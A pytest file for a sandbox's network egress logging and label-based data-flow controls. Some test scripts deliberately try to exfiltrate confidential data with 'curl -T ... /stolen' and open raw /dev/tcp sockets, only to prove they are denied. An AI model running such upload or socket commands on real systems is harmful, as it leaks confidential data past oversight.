"""Whom a sandbox reached, and tried to, is on record in full: for its result, the log, the ledger, over all sandboxes."""

import json
import os
import signal
import threading
from contextlib import closing
from datetime import UTC, datetime, timedelta

import pytest

from coldframe.client.sync import SyncColdframe, SyncSandbox
from coldframe.contract.errors import GrantMissing, NotFound
from coldframe.contract.network import LoggedContact, NetworkContact
from coldframe.contract.policy import Label, Role
from coldframe.contract.sandbox import SandboxSpec
from tests.installation import Installation, wait_until
from tests.promises.governed import token_of
from tests.promises.raw import all_entries, rest
from tests.reachable import Reachable, alone, command_line

RULES = """version: 1
rules:
  - id: secrets-are-confidential
    hook: PRE_TOOL_CALL
    when: {tool: [read_file, write_file], path: {glob: "secrets/*"}}
    label: CONFIDENTIAL
network:
  profiles:
    sites:
      rules:
        - {id: api, to: api.example.com, ports: [443, 80, 8080], scheme: [https, http]}
        - {id: crm, to: other.example.com, ports: 8443, methods: [GET], label: CONFIDENTIAL}
        - {id: echo, to: ssh.example.com, scheme: tcp, mode: raw, ports: 9000}
  use: {"*": sites}
"""
CRM = "https://other.example.com:8443/v1/text"
API = "https://api.example.com/"


def contacts(sandbox: SyncSandbox) -> list[NetworkContact]:
    return [one.contact for one in sandbox.network_log(limit=1000).contacts]


def settled(sandbox: SyncSandbox, count: int) -> list[NetworkContact]:
    """All contacts, once so many have ended."""
    wait_until(lambda: sum(one.ended is not None for one in contacts(sandbox)) >= count, f"{count} contacts have ended")
    return contacts(sandbox)


def _until_ended(sandbox: SyncSandbox, count: int) -> None:
    """Follow the log until so many contacts have ended."""
    ended = set()
    with closing(sandbox.follow_network()) as following:
        for one in following:
            if one.contact.ended is not None:
                ended.add(one.number)
            if len(ended) >= count:
                return


@pytest.mark.req("T1.82", "TP.13")
def test_every_endpoint_that_a_program_reaches_is_told_with_all_that_is_known_of_it(room: Reachable) -> None:
    program = "\n".join(
        [
            "curl -sS -m 20 -o /dev/null 'https://api.example.com/a?key=secret-in-a-query'",
            "python3 -c \"import urllib.request as r; r.urlopen('http://api.example.com:8080/v1/text?token=secret-2').read()\"",
            "exec 3<>/dev/tcp/ssh.example.com/9000; echo hello >&3; head -1 <&3; exec 3>&-",
            f"node -e \"fetch('{CRM}').then(r => r.text()).then(console.log)\"",
            "curl -sS -m 20 https://evil.example.org/",
            "curl -sS -m 20 http://93.184.215.15/",
            "true",
        ]
    )

    def steps(client: SyncColdframe) -> None:
        client.policy.load(RULES)
        with client.sandboxes.create("lineage") as box:
            box.write_file("program.sh", program)
            began = datetime.now(UTC)
            done = box.run_command("bash program.sh")
            assert done.exit_code == 0, done.stderr
            found = settled(box, 6)
            allowed = {(one.name, one.port): one for one in found if one.outcome.value == "allow"}
            assert set(allowed) == {
                ("api.example.com", 443),
                ("api.example.com", 8080),
                ("other.example.com", 8443),
                ("ssh.example.com", 9000),
            }
            for one in allowed.values():
                assert one.protocol == "tcp"
                assert one.dialled in ("93.184.215.14", "93.184.215.15", "93.184.215.16")
                assert one.sent_bytes > 0 and one.received_bytes > 0
                assert one.ended_at is not None
                assert began <= one.began_at <= one.ended_at
            assert {one.rule_id for one in allowed.values()} == {"api", "crm", "echo"}
            (request,) = allowed["api.example.com", 8080].requests
            assert (request.method, request.path, request.status) == ("GET", "/v1/text", 200)
            denied = {one.name or one.address for one in found if one.outcome.value == "deny"}
            assert denied == {"evil.example.org", "93.184.215.15"}
            assert {one.command_id for one in found} == {done.command_id}
            told = {(one.name or one.address, one.port, one.verdict) for one in done.contacts}
            assert told >= {(name, port, "allowed") for name, port in allowed} | {("evil.example.org", 53, "refused")}
            # the same in the ledger: which endpoint, by what, when, with which label and why, for which agent, session, command
            entries = [one for one in all_entries(client, sandbox_id=box.id) if one.kind.startswith("network.")]
            ended = [one.body for one in entries if one.body.get("event") == "ended"]
            assert {(one["name"], one["port"]) for one in ended} == set(allowed)
            for body in ended:
                assert body["agent_id"] == "lineage"
                assert body["session_id"] == box.info.session_id
                assert body["command_id"] == done.command_id
                assert body["label"] == ("CONFIDENTIAL" if body["rule_id"] == "crm" else "PUBLIC")
                assert {"contact_id", "record", "protocol", "dialled", "scheme", "mode", "reason", "began_at"} <= set(
                    body
                )
            assert "secret" not in json.dumps([one.body for one in entries])
            ends = [one.body for one in all_entries(client, sandbox_id=box.id, kinds=["call.ended"])]
            assert "tcp:93.184.215.14:443:allowed" in ends[-1]["endpoints"]

    room.use(steps)


@pytest.mark.req("T1.83")
def test_what_comes_from_a_labelled_destination_labels_the_session_before_the_command_is_over(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(RULES)
        with client.sandboxes.create("tainted") as box:
            assert box.run_command(["curl", "-sS", API]).result.taint is Label.PUBLIC
            box.write_file("script.sh", f"curl -sS -o answer {CRM}; curl -sS -m 20 -T answer {API}stolen")
            done = box.run_command("sh script.sh")
            assert done.result.taint is Label.CONFIDENTIAL
            assert done.exit_code != 0
            assert client.sessions.get(box.info.session_id).taint is Label.CONFIDENTIAL
            stolen = contacts(box)[-1]
            assert (stolen.name, stolen.outcome.value, stolen.rule_id) == (
                "api.example.com",
                "deny",
                "floor:write-down",
            )
            assert box.run_command(["curl", "-sS", CRM]).exit_code == 0
        with client.sandboxes.create("labelled") as box:
            assert box.run_command(["sh", "-c", f"mkdir secrets; echo x > secrets/plan; curl -sS {API}"]).exit_code == 0
            assert client.sessions.get(box.info.session_id).taint is Label.PUBLIC
            assert box.read_file("secrets/plan").result.taint is Label.CONFIDENTIAL
            assert box.run_command(["curl", "-sS", "-m", "20", API]).exit_code != 0

    room.use(steps)


def test_a_reset_ends_what_the_old_session_had_open_and_the_label_of_the_files_stays(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(RULES)
        with client.sandboxes.create("reset") as box:
            line = "exec 3<>/dev/tcp/ssh.example.com/9000; echo begun >&3; head -1 <&3; cat <&3; echo over"
            command = box.run_command(line, background=True).command_id
            wait_until(lambda: b"begun" in box.output(command).data, "the connection carries bytes")
            new = client.sessions.reset(box.info.session_id)
            wait_until(lambda: b"over" in box.output(command).data, "the connection has ended", timeout_s=30)
            assert box.run_command(["curl", "-sS", CRM]).result.taint is Label.CONFIDENTIAL
            again = client.sessions.reset(new.session_id)
            assert again.taint is Label.PUBLIC
            assert box.run_command(["curl", "-sS", "-m", "20", API]).exit_code != 0
            client.agents.set_label("reset", "PUBLIC", reason="looked at")
            client.sessions.reset(again.session_id)
            assert box.run_command(["curl", "-sS", API]).exit_code == 0

    room.use(steps)


@pytest.mark.req("T1.84")
def test_a_label_is_not_washed_off_in_the_workspace_whoever_reads_it_there_and_after_a_restart() -> None:
    def steps(installation: Installation) -> None:
        with SyncColdframe(installation.url, installation.token) as client:
            client.policy.load(RULES)
            first = client.sandboxes.create("washer")
            beside = client.sandboxes.create("washer")
            waiting = (
                "until [ -e answer ]; do sleep 0.05; done; curl -sS -m 20 -T answer https://api.example.com/stolen"
            )
            command = beside.run_command(waiting, background=True).command_id
            assert first.run_command(f"curl -sS -o .part {CRM} && mv .part answer").exit_code == 0
            wait_until(lambda: beside.command(command).state == "ended", "the thief is over", timeout_s=30)
            result = beside.command(command).result
            assert result is not None and result.exit_code != 0
            first.terminate()
            beside.terminate()
        port = int(installation.url.rpartition(":")[2])
        installation.stop()
        installation.start(port=port)
        with SyncColdframe(installation.url, installation.token) as client:
            for steal in ("curl -sS -m 20 https://api.example.com/", "cat answer"):
                with client.sandboxes.create("washer") as later:
                    assert client.sessions.get(later.info.session_id).taint is Label.PUBLIC
                    done = later.run_command(steal)
                    assert done.result.taint is Label.CONFIDENTIAL
                    assert (done.exit_code == 0) == steal.startswith("cat")
            with client.sandboxes.create("washer") as later:
                assert later.read_file("answer").result.taint is Label.CONFIDENTIAL

    alone(steps)


@pytest.mark.req("T1.54")
def test_a_destination_above_the_ceiling_of_a_sandbox_is_not_reached(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(RULES)
        with client.sandboxes.create(spec=SandboxSpec(background=True, ceiling=Label.INTERNAL)) as held:
            assert held.run_command(f"curl -4fsS -m 20 {CRM}").exit_code != 0
            assert held.run_command(f"curl -4sS -o /dev/null {API}").exit_code == 0
            said = {one.name: {one.rule_id, *(each.rule_id for each in one.requests)} for one in contacts(held)}
            assert "floor:ceiling" in said["other.example.com"] and "floor:ceiling" not in said["api.example.com"]
            assert client.sessions.get(held.info.session_id).taint is Label.PUBLIC

    room.use(steps)


def test_labels_rules_and_log_outlive_the_death_of_daemon_and_server() -> None:
    def steps(installation: Installation) -> None:
        def reach(box: SyncSandbox, url: str) -> bool:
            """Whoever connects meanwhile waits until somebody serves the box again."""
            return box.run_command(["curl", "-sS", "-m", "60", "-o", "/dev/null", url]).exit_code == 0

        with SyncColdframe(installation.url, installation.token) as client:
            client.policy.load(RULES)
            box, clean = client.sandboxes.create("lasting"), client.sandboxes.create("clean")
            assert reach(box, CRM)
            (daemon,) = [pid for pid in installation.processes() if b"assembly\0daemon" in command_line(pid)]
            os.kill(daemon, signal.SIGKILL)
            wait_until(lambda: not os.path.exists(f"/proc/{daemon}"), "the daemon is gone")
            assert reach(clean, API)
            assert reach(box, CRM)
            assert not reach(box, API)
        port = int(installation.url.rpartition(":")[2])
        installation.kill()
        installation.start(port=port)
        with SyncColdframe(installation.url, installation.token) as client:
            box, clean = client.sandboxes.get(box.id), client.sandboxes.get(clean.id)
            assert box.info.network == ("sites",)
            assert reach(clean, API)
            assert reach(box, CRM)
            assert not reach(box, API)
            assert [(one.name, one.outcome.value) for one in settled(box, 5)] == [
                *[("other.example.com", "allow")] * 2,
                ("api.example.com", "deny"),
                ("other.example.com", "allow"),
                ("api.example.com", "deny"),
            ]
            assert [one.kind for one in all_entries(client, kinds=["network.missing"])] == []

    alone(steps)


@pytest.mark.req("T4.71")
def test_a_thousand_connections_of_all_kinds_are_a_thousand_contacts(room: Reachable) -> None:
    program = """
import socket, ssl, sys, threading, urllib.request
trust = ssl.create_default_context()
def one(number):
    kind = number % 4
    try:
        if kind == 0:
            urllib.request.urlopen(f"http://api.example.com:8080/v1/text?n={number}", timeout=60).read()
        elif kind == 1:
            urllib.request.urlopen("https://api.example.com/", timeout=60, context=trust).read()
        elif kind == 2:
            with socket.create_connection(("ssh.example.com", 9000), 60) as link:
                link.sendall(b"x"); link.shutdown(1)
                while link.recv(100): pass
        else:
            with socket.create_connection((f"93.184.{number // 256}.{number % 256}", 443), 60) as link:
                link.sendall(b"x"); link.recv(1)
    except OSError as error:
        if kind != 3:
            print(number, error); sys.exit(1)
def several(numbers):
    for number in numbers:
        one(number)
threads = [threading.Thread(target=several, args=(range(first, 1000, 10),)) for first in range(10)]
for thread in threads: thread.start()
for thread in threads: thread.join()
"""

    def steps(client: SyncColdframe) -> None:
        client.policy.load(RULES)
        with client.sandboxes.create("thousand") as box:
            box.write_file("many.py", program)
            done = box.run_command("python3 many.py")
            assert (done.exit_code, done.stdout) == (0, ""), done.stdout

            _until_ended(box, 1000)
            found: list[LoggedContact] = []
            after: int | None = 0
            while after is not None:
                page = box.network_log(after=after, limit=300)
                found += page.contacts
                after = page.next_after
            found = [one for one in found if one.contact.port != 53]
            assert len(found) == len({one.contact.contact_id for one in found}) == 1000
            kinds = [one.contact.name or "address" for one in found]
            assert {kind: kinds.count(kind) for kind in set(kinds)} == {
                "api.example.com": 500,
                "ssh.example.com": 250,
                "address": 250,
            }
            assert {one.contact.outcome.value for one in found if one.contact.name is None} == {"deny"}
            assert client.ledger.verify().intact

    room.use(steps)


@pytest.mark.req("T4.71")
def test_which_sandboxes_reached_something_last_week_is_answered_and_by_whom_rules_were_changed(
    room: Reachable,
) -> None:
    def steps(installation: Installation) -> None:
        with SyncColdframe(installation.url, installation.token) as client:
            before = client.policy.load(RULES.replace("ports: 9000", "ports: 9001")).sha256
            after = client.policy.load(RULES).sha256
            with client.sandboxes.create("asked-1") as one, client.sandboxes.create("asked-2") as two:
                one.run_command(["curl", "-sS", "http://api.example.com:8080/v1/text"])
                two.run_command(["curl", "-sS", "-m", "20", "https://never.example.net/"])
                week = (datetime.now(UTC) - timedelta(days=7)).isoformat()
                reached = client.network.sandboxes(host="api.example.com", since=week, outcome="allow")
                assert one.id in {found.sandbox_id for found in reached}
                assert two.id not in {found.sandbox_id for found in reached}
                (tried,) = client.network.sandboxes(host="never.example.net", since=week)
                assert (tried.sandbox_id, tried.agent_id, tried.allowed) == (two.id, "asked-2", 0)
                assert client.network.sandboxes(host="api.example.com", until=week) == []
                shown = installation.cli("network", "sandboxes", "never.example.net", "--since", "7d", "--json")
                assert [found["sandbox_id"] for found in json.loads(shown.stdout)] == [two.id]
                found = installation.cli("network", "search", "--host", "*.example.net", "--denied", "--json")
                assert {line["sandbox_id"] for line in json.loads(found.stdout)} == {two.id}
            (change,) = all_entries(client, kinds=["policy.changed"], subject=after)[-1:]
            assert (change.body["sha256_before"], change.body["text"]) == (before, RULES)
            assert change.body["caller"].startswith("rest:tok_")

    room.run(steps)


def test_the_log_is_shown_followed_and_kept_after_the_end_of_its_sandbox(room: Reachable) -> None:
    def steps(installation: Installation) -> None:
        with SyncColdframe(installation.url, installation.token) as client:
            client.policy.load(RULES)
            box = client.sandboxes.create("followed")
            heard: list[LoggedContact] = []

            def follow() -> None:
                with SyncColdframe(installation.url, installation.token) as other:
                    heard.extend(other.sandboxes.get(box.id).follow_network())

            following = threading.Thread(target=follow)
            following.start()
            box.run_command(["curl", "-sS", "http://api.example.com:8080/v1/text"])
            box.run_command(["curl", "-sS", "-m", "20", "http://10.9.9.9/"])
            wait_until(lambda: heard, "something is heard")
            box.terminate()
            following.join(30)
            assert not following.is_alive()
            newest = {one.contact.contact_id: one.contact for one in heard}
            assert [one.ended for one in newest.values()] == ["closed", "denied"]
            assert [one.change for one in heard] == sorted({one.change for one in heard})
            shown = installation.cli("network", "log", box.id)
            assert shown.returncode == 0, shown.stderr
            assert b"GET /v1/text" in shown.stdout
            lines = installation.cli("network", "log", box.id, "--follow", "--denied", "--json").stdout.splitlines()
            assert [json.loads(line)["contact"]["address"] for line in lines] == ["10.9.9.9"]
            whole = json.loads(installation.cli("network", "log", box.id, "--json", "--host", "api.example.com").stdout)
            assert [one["contact"]["name"] for one in whole["contacts"]] == ["api.example.com"]

    room.run(steps)


def test_a_log_is_paged_filtered_and_for_those_who_may_see_it(room: Reachable) -> None:
    def steps(installation: Installation) -> None:
        with SyncColdframe(installation.url, installation.token) as client:
            client.policy.load(RULES)
            with client.sandboxes.create("paged") as box:
                first = box.run_command(
                    "for n in 1 2 3; do curl -sS http://api.example.com:8080/v1/text; done"
                ).command_id
                box.run_command(["curl", "-sS", "-m", "20", "http://10.9.9.9/"])
                path = f"/v1/sandboxes/{box.id}/network"
                page = rest(installation, "GET", f"{path}?limit=2").json
                assert len(page["contacts"]) == 2
                page = rest(installation, "GET", f"{path}?limit=2&after={page['next_after']}").json
                assert [len(page["contacts"]), page["next_after"]] == [2, None]
                assert len(box.network_log(command_id=first).contacts) == 3
                assert [one.contact.address for one in box.network_log(outcome="deny").contacts] == ["10.9.9.9"]
                for wrong in ("limit=0", "limit=1001", "after=-1", "outcome=maybe"):
                    assert rest(installation, "GET", f"{path}?{wrong}").code == "INVALID_ARGUMENT"
                assert rest(installation, "GET", "/v1/network?since=yesterday").code == "INVALID_ARGUMENT"
                assert rest(installation, "GET", f"{path}/events?after_change=x").code == "INVALID_ARGUMENT"
                with SyncColdframe(client.url, token_of(client, Role.AGENT, "paged")) as own:
                    assert len(own.sandboxes.get(box.id).network_log().contacts) == 4
                    with pytest.raises(GrantMissing):
                        own.network.search()
                with SyncColdframe(client.url, token_of(client, Role.AGENT, "stranger")) as other:
                    with pytest.raises(NotFound):
                        SyncSandbox(other._transport, box.info).network_log()
                    with pytest.raises(NotFound):
                        list(SyncSandbox(other._transport, box.info).follow_network())

    room.run(steps)
